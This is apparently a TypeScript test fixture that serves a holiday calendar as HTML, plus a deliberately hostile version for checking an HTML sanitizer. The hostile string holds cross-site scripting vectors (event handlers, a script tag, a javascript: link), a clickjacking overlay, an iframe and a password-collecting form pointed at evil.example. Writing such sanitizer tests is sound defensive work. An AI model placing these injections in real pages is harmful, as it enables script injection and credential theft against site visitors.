const HOLIDAYS = `<p>Our offices are closed on these days:</p>
<ul><li>New Year's Day</li><li>Memorial Day</li><li>Independence Day</li><li>Labor Day</li><li>Thanksgiving Day and the day after</li><li>Christmas Day</li></ul>`

const HOSTILE = `<h2 onclick="window.stolen = 1">Holidays</h2>
<script>window.stolen = 1</script>
<img src="x" onerror="window.stolen = 1" alt="">
<a href="javascript:window.stolen = 1">Closed days</a>
<a href="https://holidays.example/" target="_blank" style="position:fixed;inset:0">More</a>
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<svg onload="window.stolen = 1"></svg>
<form action="https://evil.example/"><input name="password"></form>
<p>New Year's Day</p>`

/** A domain id of no shipped brand whose calendar tries everything that a sanitizer has to stop. */
export const HOSTILE_DOMAIN_ID = '99'

/** The holiday calendar of a domain as HTML. */
export const calendarOf = (domainId: string): string => (domainId === HOSTILE_DOMAIN_ID ? HOSTILE : HOLIDAYS)
